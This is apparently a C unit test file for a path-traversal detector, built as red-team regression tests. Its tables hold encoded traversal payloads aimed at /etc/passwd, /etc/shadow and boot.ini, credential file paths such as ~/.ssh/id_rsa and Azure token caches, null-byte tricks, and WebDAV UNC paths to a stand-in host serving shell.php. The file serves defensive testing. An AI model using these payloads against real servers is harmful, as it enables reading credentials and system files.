/* test_payload_r9t.c - issue 20, the ninth path traversal red team (t):
 * dotdotpwn's escapes whose hex digits were escaped apart ("%%32%%65"),
 * the Azure CLI's token caches named like .aws/credentials (Maven's
 * settings told in a named home),
 * the WebDAV redirector's UNC servers with no share, and a run of dots
 * with no path after it (punctuation, no climb). Attacks draw traversal as
 * a query value and a form body and reach the kill line where so marked;
 * benign rows draw nothing (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define T PAYLOAD_TRAVERSAL
#define N PAYLOAD_NONE

/* "%%32%%65" decodes once to "%2%e": a decoder gathering the digits
 * across the stray '%' reads '.'; "%%35%%63" a backslash, "%%32%%66" '/' */
static void test_split_digit_escapes(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"..%%35%%63..%%35%%63etc%%35%%63issue", T},
		{".%u002e%%35%%63etc%%35%%63issue", T},
		{"%%32%%65%%32%%65%%32%%66%%32%%65%%32%%65%%32%%66etc%%32%%66group", T},
		{"\\%2e.%%35%%63%2e.%%35%%63%2e.%%35%%63etc/shadow", T},
		{"C:%2e.%%35%%63%2e.%%35%%63config%%35%%63database.yml#", T},
		{"%%32%%65%%32%%65%%35%%63%%32%%65%%32%%65%%35%%63windows%%35%%63system.ini", T},
		/* "%5%cetc": our next round read "%ce" as one escape */
		{"..%%35%%63etc%%35%%63issue", T},
		{"%%32%%65%%32%%65%%32%%66%%32%%65%%32%%65%%32%%66etc%%32%%66passwd", T},
		{"C:%2e.%%35%%63%2e.%%35%%63%2e.%%35%%63boot.ini", T},
		{"%%32%%65%%32%%650x2f%%32%%65%%32%%650x2fWEB-INF/web.xml?", T},
		{"100%%20 off", N},
		{"%2\xe4\xb8\xad%2\xe6\x96\x87", N},
		{"growth 5%%2e3%% yoy", N},
	};
	rt_run_kill("split escapes", T, t, sizeof(t) / sizeof(t[0]));
}

/* the Azure CLI's token caches hold tokens only, as .aws/credentials
 * does: killed in every spelling (its other files are told:
 * payload_path_os.c); MySQL's tree after a climb */
static void test_cli_credentials(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{".azure/accessTokens.json", T},
		{"../.azure/accessTokens.json", T},
		{"/home/app/.azure/msal_token_cache.json", T},
		{"../../../../root/.m2/settings.xml", T},
		{"~/.azure/msal_token_cache.bin", T},
		{"../../../etc/mysql/debian.cnf", T},
		{"settings.xml", N},
		{"src/main/resources/settings.xml", N},
		{"azure/pipelines.yml", N},
	};
	rt_run_kill("cli credentials", T, t, sizeof(t) / sizeof(t[0]));
	/* Maven's settings in a named home: told, not killed; "~/" as its
	 * docs write it: nothing (benign.txt) */
	assert_true(rt_best("/home/jenkins/.m2/settings.xml", 0, T) >= 50);
	assert_true(rt_best("/home/jenkins/.m2/settings.xml", 0, T) < 60);
	assert_int_equal(rt_best("~/.m2/settings.xml", 0, T), 0);
}

/* \\host@SSL\x.php: the WebDAV redirector fetches the script over HTTP */
static void test_webdav_unc(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"\\\\host@SSL\\x.php", T},
		{"\\\\evil.example@8080\\shell.php", T},
		{"\\\\10.0.0.5@SSL@443\\DavWWWRoot\\s.php", T},
		{"\\\\fileserver\\shared\\Budget.xlsx", N},
		{"//user@example.com/x", N},
	};
	rt_run("webdav unc", t, sizeof(t) / sizeof(t[0]));
}

/* a run of dots alone is punctuation; "....//" before a path evades */
static void test_dot_runs(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"....", N},
		{".....", N},
		{"..../", N},
		{"...../", N},
		{"....//....//etc/passwd", T},
		{"....//....//....//x/y", T},
		{"....\\\\....\\\\boot.ini", T},
	};
	rt_run_kill("dot runs", T, t, sizeof(t) / sizeof(t[0]));
}

/* a file's name before words is a search about it, no open; a name
 * alone, in a path, or before a cut is still one */
static void test_name_then_words(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{".htaccess redirect", N},
		{"php.ini location", N},
		{"web.config transformation", N},
		{"boot.ini editor", N},
		{".env vs .env.local", N},
		{"wp-config.php example", N},
		{"tomcat-users.xml example 2", N},
		{"web.config", T},
		{"wp-config.php%00", T},
		{"/etc/passwd file", T},
		{"boot.ini x", T},
		{"web.config;.txt", T},
		{".htaccess $x", T},
	};
	rt_run("name then words", t, sizeof(t) / sizeof(t[0]));
}

/* an image, a stylesheet or a page: under the document root by its
 * absolute path (a CMS's upload), or a few Windows steps up (a
 * project's asset), as a few '/' steps up already were */
static void test_assets_are_links(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"/var/www/html/uploads/logo.png", N},
		{"/var/www/vhosts/example.com/httpdocs/uploads/logo.png", N},
		{"..\\..\\assets\\icon.ico", N},
		{"..\\images\\logo.png", N},
		{"C:\\inetpub\\wwwroot\\index.html", N},
		{"C:\\xampp\\htdocs\\img\\logo.png", N},
		{"C:\\inetpub\\wwwroot\\web.config", T},
		{"C:\\xampp\\apache\\conf\\httpd.conf", T},
		{"..\\..\\inetpub\\wwwroot\\index.html", T},
		{"/var/www/html/index.php", T},
		{"/var/www/html/config/settings.inc", T},
		{"..\\..\\web.config", T},
		{"..\\..\\..\\..\\assets\\x.png", T},
		{"..\\..\\images\\x.png%00", T},
	};
	rt_run("assets", t, sizeof(t) / sizeof(t[0]));
}

/* a sensitive directory alone opens no file ("~/.ssh" drew nothing,
 * "~/.ssh/" killed); a file in it, or a climb to it, still counts */
static void test_directory_alone(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"~/.ssh/", N},
		{"/etc/nginx/", N},
		{".git/", N},
		{"/var/log/", N},
		{"~/.ssh/id_rsa", T},
		{"/etc/nginx/nginx.conf", T},
		{".git/config", T},
		{"../../../../.git/", T},
		{"..%2f..%2fWEB-INF/", T},
	};
	rt_run("directory alone", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_split_digit_escapes),
		cmocka_unit_test(test_cli_credentials),
		cmocka_unit_test(test_webdav_unc),
		cmocka_unit_test(test_dot_runs),
		cmocka_unit_test(test_name_then_words),
		cmocka_unit_test(test_assets_are_links),
		cmocka_unit_test(test_directory_alone),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
